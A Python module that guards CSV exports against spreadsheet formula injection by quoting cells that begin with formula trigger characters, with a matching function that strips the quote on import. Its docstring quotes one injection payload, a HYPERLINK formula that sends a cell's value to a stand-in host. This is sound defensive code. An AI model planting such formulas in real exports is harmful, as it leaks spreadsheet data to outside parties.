"""Cells of the CSV files diptych writes, made safe to open in a spreadsheet.

A spreadsheet runs a cell whose text begins with ``=``, ``+``, ``-`` or ``@`` as a formula (a
leading tab or carriage return can start one too), so text that came from outside -- a name
in an identity list, a model's answer, a reviewer's note, a service's error -- such as
``=HYPERLINK("http://example.com/?"&A1, "open")`` would run when an auditor opens an export
("CSV injection"). As OWASP recommends, :func:`neutralise_cell` puts a single quote before
such a text cell, which a spreadsheet shows as text. Numbers stay numbers: ``-0.5`` is a
number, not a formula, and so is a text cell that reads as one. JSON exports and the store keep
the raw text.

:func:`restore_cell` takes the quote off again on the way in, so that a labels template written
with it and filled in imports to the same names. For that to be exact, a text that begins with
a quote followed by one of those characters (or by another quote) gets the quote too.
"""

from __future__ import annotations

import re
from typing import Any

#: The first characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_TRIGGERS = frozenset("=+-@\t\r")
#: The quote a spreadsheet reads as "this cell is text".
QUOTE = "'"
#: A decimal number, as a spreadsheet reads one (it is not a formula whatever its sign).
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def _quoted_form(text: str) -> bool:
    """Whether ``text`` begins like a neutralised cell: a quote, then a trigger or a quote."""
    return len(text) > 1 and text[0] == QUOTE and (text[1] in FORMULA_TRIGGERS or text[1] == QUOTE)


def neutralise_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet will not run: a text that would start a formula
    gets a leading quote; anything else (numbers, None, other text) is returned as it is."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_TRIGGERS:
        return value if _NUMBER.fullmatch(value) else QUOTE + value
    return QUOTE + value if _quoted_form(value) else value


def restore_cell(text: str) -> str:
    """The text :func:`neutralise_cell` was given, from the cell it wrote (any other text is
    returned as it is)."""
    return text[1:] if _quoted_form(text) else text


def neutralise_row(row: dict[str, Any]) -> dict[str, Any]:
    """Every cell of a CSV row through :func:`neutralise_cell`."""
    return {column: neutralise_cell(value) for column, value in row.items()}
